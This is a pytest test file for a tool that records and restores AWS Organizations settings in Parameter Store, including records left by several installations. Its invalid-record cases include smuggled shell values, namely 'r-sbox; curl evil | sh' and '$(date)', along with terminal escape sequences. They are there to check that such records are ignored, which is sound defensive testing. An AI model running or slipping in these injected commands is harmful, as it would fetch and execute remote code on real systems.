"""Records of `ensure.py settings` in Parameter Store, and records of other installations."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from sandbox import Fault
from unit.cases import (
    ACCOUNT_PLACEMENT,
    ADMINISTRATOR,
    DELEGATED_ADMINISTRATOR,
    INSTALLATION,
    RECORD,
    SERVICE_LINKED_ROLE,
    STACK_SETS_ACCESS,
    TRUSTED_ACCESS,
    move_account,
    parent,
    record,
    recorded,
    registered,
    root_id,
    set_trusted,
    settings_query,
    trusted,
    unit_id,
)

if TYPE_CHECKING:
    from sandbox import Sandbox
    from unit.conftest import Run

_OTHER_INSTALLATION = "/systems-manager-organization/settings/another"
_PLACEMENT = ACCOUNT_PLACEMENT.key


def _entry(**members: object) -> dict[str, object]:
    return {"subject": "", "value": "", "previous": "", "change": "", "retained": False, "reverted": False, **members}


def _observed(run: Run, key: str, *, subject: str = "", value: str = "") -> dict[str, Any]:
    settings = json.dumps([{"key": key, "subject": subject, "value": value}])
    query = {"sync_name": "none", "installation": INSTALLATION, "record_region": "us-east-1", "settings": settings}
    outcome = run("observe", "resource-data-sync", query=query)
    assert (outcome.status, outcome.stderr) == (0, "")
    observed: dict[str, dict[str, Any]] = json.loads(outcome.result["settings"])
    return observed[key]


# What a plan reads


def test_a_complete_change_is_recorded(aws: Sandbox, run: Run) -> None:
    run("ensure", "settings", query=settings_query(TRUSTED_ACCESS.desired(aws, change="disabled -> enabled (T1)")))
    assert _observed(run, TRUSTED_ACCESS.key) == {
        "value": "enabled",
        "previous": "disabled",
        "change": "disabled -> enabled (T1)",
        "superseded": "",
        "others": [],
    }
    set_trusted(aws, "disabled")
    assert _observed(run, TRUSTED_ACCESS.key)["change"] == "", "it is no longer so"


def test_more_settings_than_a_record_holds_change_nothing(aws: Sandbox, run: Run) -> None:
    """Once they are changed, each record has the change as well."""
    change = "disabled -> enabled (2026-11-28T10:12:48Z), the value before another installation changed it"
    settings = [
        {**TRUSTED_ACCESS.desired(aws, change=change), "key": f"trusted-access/service-{number:02}.amazonaws.com"}
        for number in range(20)
    ]
    outcome = run("ensure", "settings", query=settings_query(*settings))
    assert (outcome.status, recorded(aws)) == (1, {})
    assert "a parameter of Parameter Store takes 4096. Use fewer service principals" in outcome.stderr
    assert "EnableAWSServiceAccess" not in [call.operation for call in aws.calls]


def test_an_interrupted_change_has_none(aws: Sandbox, run: Run) -> None:
    aws.faults.inject(Fault("organizations", "MoveAccount", "access_denied", times=1000))
    settings = [case.desired(aws, change="as planned") for case in (TRUSTED_ACCESS, ACCOUNT_PLACEMENT)]
    assert run("ensure", "settings", query=settings_query(*settings)).status == 1
    assert _observed(run, TRUSTED_ACCESS.key)["change"] == "as planned", "this one is complete"
    placed = _observed(run, _PLACEMENT, subject=ADMINISTRATOR)
    assert (placed["value"], placed["previous"], placed["change"]) == (root_id(aws), root_id(aws), "")


def test_the_record_has_the_previous_value(aws: Sandbox, run: Run) -> None:
    run("ensure", "settings", query=settings_query(ACCOUNT_PLACEMENT.desired(aws)))
    observed = _observed(run, _PLACEMENT, subject=ADMINISTRATOR)
    assert (observed["value"], observed["previous"]) == (unit_id(aws, "SystemsManager"), root_id(aws))


def test_another_subject_is_another_setting(aws: Sandbox, run: Run) -> None:
    run("ensure", "settings", query=settings_query(ACCOUNT_PLACEMENT.desired(aws)))
    observed = _observed(run, _PLACEMENT, subject="333333333333")
    unit, root = unit_id(aws, "SystemsManager"), root_id(aws)
    assert (observed["value"], observed["previous"], observed["change"]) == (root, root, "")
    assert observed["superseded"] == f"{ADMINISTRATOR}: {unit} -> {root}; 333333333333: "

    other = ACCOUNT_PLACEMENT.desired(aws, subject="333333333333")
    outcome = run("ensure", "settings", query=settings_query(other))
    assert outcome.stdout == f"{_PLACEMENT}: {root} again (was {unit}).\n{_PLACEMENT}: {unit} (was {root}).\n"
    assert parent(aws) == root
    assert recorded(aws)[_PLACEMENT]["subject"] == "333333333333"


# Several installations


def test_a_shared_setting_is_restored_by_the_last_installation(aws: Sandbox, run: Run) -> None:
    set_trusted(aws, "enabled")
    record(aws, {TRUSTED_ACCESS.key: _entry(value="enabled", previous="disabled")}, name=_OTHER_INSTALLATION)
    observed = _observed(run, TRUSTED_ACCESS.key)
    assert observed["previous"] == "disabled", "the other one changed it"
    assert observed["others"] == [{"installation": "another", "value": "enabled"}]

    query = settings_query(TRUSTED_ACCESS.desired(aws))
    run("ensure", "settings", query=query)
    outcome = run("ensure", "settings", query={**query, "action": "restore"})
    assert outcome.stdout == (
        f"{TRUSTED_ACCESS.key}: left as it is, because the installation another uses it as well.\n"
    )
    assert trusted(aws) == "enabled"

    run("ensure", "settings", query=query)
    aws.client("ssm").delete_parameter(Name=_OTHER_INSTALLATION)
    run("ensure", "settings", query={**query, "action": "restore"})
    assert trusted(aws) == "disabled"


def test_reverted_settings_of_another_installation(aws: Sandbox, run: Run) -> None:
    record(aws, {TRUSTED_ACCESS.key: _entry(value="enabled", reverted=True)}, name=_OTHER_INSTALLATION)
    assert _observed(run, TRUSTED_ACCESS.key)["others"] == []


# Records that cannot be believed


@pytest.mark.parametrize(
    "value",
    [
        "{",
        "[]",
        '{"schema": 2, "settings": {}}',
        '{"schema": 1, "settings": []}',
        '{"schema": 1, "settings": {"trusted-access/x": {"value": "enabled"}}}',
        json.dumps({"schema": 1, "settings": {"time-travel/x": _entry()}}),
        json.dumps({"schema": 1, "settings": {"trusted-access/x": _entry(value=1)}}),
        # Text that would be shown or pasted.
        json.dumps({"schema": 1, "settings": {"trusted-access/\x1b[2J": _entry(value="enabled", previous="disabled")}}),
        json.dumps({"schema": 1, "settings": {_PLACEMENT: _entry(value="r-sbox", previous="r-sbox; curl evil | sh")}}),
        json.dumps({"schema": 1, "settings": {_PLACEMENT: _entry(value="r-sbox", subject="$(date)")}}),
        json.dumps({"schema": 1, "settings": {_PLACEMENT: _entry(value="r-sbox", change="\x1b[2J")}}),
        json.dumps({"schema": 1, "settings": {DELEGATED_ADMINISTRATOR.key: _entry(value="none", previous="abc")}}),
    ],
)
def test_invalid_records_are_ignored(aws: Sandbox, run: Run, value: str) -> None:
    aws.client("ssm").put_parameter(Name=RECORD, Value=value, Type="String")
    set_trusted(aws, "enabled")
    assert _observed(run, TRUSTED_ACCESS.key)["change"] == ""
    outcome = run("ensure", "settings", query=settings_query(TRUSTED_ACCESS.desired(aws), action="restore"))
    assert (outcome.status, outcome.stderr) == (0, ""), "the state knows what was before"
    assert trusted(aws) == "disabled"


def test_the_state_decides_where_an_account_goes_back_to(aws: Sandbox, run: Run) -> None:
    query = settings_query(ACCOUNT_PLACEMENT.desired(aws))
    run("ensure", "settings", query=query)
    elsewhere = unit_id(aws, "Elsewhere")
    record(aws, {_PLACEMENT: {**recorded(aws)[_PLACEMENT], "previous": elsewhere}})
    run("ensure", "settings", query={**query, "action": "restore"})
    assert parent(aws) == root_id(aws)


def test_a_record_alone_moves_no_account_on_destroy(aws: Sandbox, run: Run) -> None:
    unit, elsewhere = unit_id(aws, "SystemsManager"), unit_id(aws, "Elsewhere")
    move_account(aws, unit)
    record(aws, {_PLACEMENT: _entry(subject=ADMINISTRATOR, value=unit, previous=elsewhere)})
    outcome = run("ensure", "settings", query=settings_query(action="restore"))
    assert outcome.status == 0
    assert f"left as it is, because only {RECORD} records that it was in {elsewhere}" in outcome.stdout
    assert f"aws organizations move-account --account-id {ADMINISTRATOR} --source-parent-id {unit}" in outcome.stdout
    assert parent(aws) == unit


# Changing back


def test_failures_of_restore_are_reported_and_the_rest_is_restored(aws: Sandbox, run: Run) -> None:
    set_trusted(aws, "enabled")
    cases = (TRUSTED_ACCESS, STACK_SETS_ACCESS, SERVICE_LINKED_ROLE, ACCOUNT_PLACEMENT, DELEGATED_ADMINISTRATOR)
    query = settings_query(*(case.desired(aws) for case in cases))
    run("ensure", "settings", query=query)
    aws.faults.inject(Fault("organizations", "DeregisterDelegatedAdministrator", "access_denied", times=1000))
    outcome = run("ensure", "settings", query={**query, "action": "restore"})
    assert (outcome.status, outcome.stdout) == (1, "")
    assert "organizations:DeregisterDelegatedAdministrator failed" in outcome.stderr
    assert f"{TRUSTED_ACCESS.key}: retained until the other settings are restored." in outcome.stderr
    assert parent(aws) == root_id(aws), "this does not hang on it"
    assert trusted(aws) == "enabled"
    assert set(recorded(aws)) == {TRUSTED_ACCESS.key, STACK_SETS_ACCESS.key, DELEGATED_ADMINISTRATOR.key}

    aws.faults.reset()
    assert run("ensure", "settings", query={**query, "action": "restore"}).status == 0
    assert (registered(aws), trusted(aws), recorded(aws)) == ("none", "disabled", {})


def test_an_account_of_a_deleted_unit_moves_to_the_root(aws: Sandbox, run: Run) -> None:
    previous_unit = unit_id(aws, "Elsewhere")
    move_account(aws, previous_unit)
    query = settings_query(ACCOUNT_PLACEMENT.desired(aws, previous=previous_unit))
    run("ensure", "settings", query=query)
    aws.client("organizations").delete_organizational_unit(OrganizationalUnitId=previous_unit)
    outcome = run("ensure", "settings", query={**query, "action": "restore"})
    assert outcome.status == 0
    unit = unit_id(aws, "SystemsManager")
    assert outcome.stdout.endswith(f": {root_id(aws)} again (was {unit}) ({previous_unit} is gone).\n")
    assert parent(aws) == root_id(aws)


def test_an_account_that_left_the_organization(aws: Sandbox, run: Run) -> None:
    missing = ACCOUNT_PLACEMENT.desired(aws, subject="999999999999")
    outcome = run("ensure", "settings", query=settings_query(missing, action="restore"))
    assert (outcome.status, outcome.stderr) == (0, "")
    assert "left as it is, because it is not set and no longer ou-" in outcome.stdout
    refused = run("ensure", "settings", query=settings_query(missing))
    assert refused.status == 1
    assert 'account "999999999999" cannot be placed in ou-' in refused.stderr


def test_another_administrator_takes_the_place_of_the_first(aws: Sandbox, run: Run) -> None:
    set_trusted(aws, "enabled")
    run("ensure", "settings", query=settings_query(DELEGATED_ADMINISTRATOR.desired(aws)))
    second = DELEGATED_ADMINISTRATOR.desired(aws, value="333333333333")
    outcome = run("ensure", "settings", query=settings_query(second))
    assert outcome.stdout == f"{DELEGATED_ADMINISTRATOR.key}: 333333333333 (was {ADMINISTRATOR}).\n"
    assert registered(aws) == "333333333333"


def test_quick_setup_is_registered_last(aws: Sandbox, run: Run) -> None:
    set_trusted(aws, "enabled")
    aws.client("organizations").enable_aws_service_access(ServicePrincipal="ssm-quicksetup.amazonaws.com")
    quick_setup = DELEGATED_ADMINISTRATOR.desired(aws, key="delegated-administrator/ssm-quicksetup.amazonaws.com")
    query = settings_query(quick_setup, DELEGATED_ADMINISTRATOR.desired(aws))
    outcome = run("ensure", "settings", query=query)
    assert [line.partition(":")[0].partition("/")[2] for line in outcome.stdout.splitlines()] == [
        "ssm.amazonaws.com",
        "ssm-quicksetup.amazonaws.com",
    ]
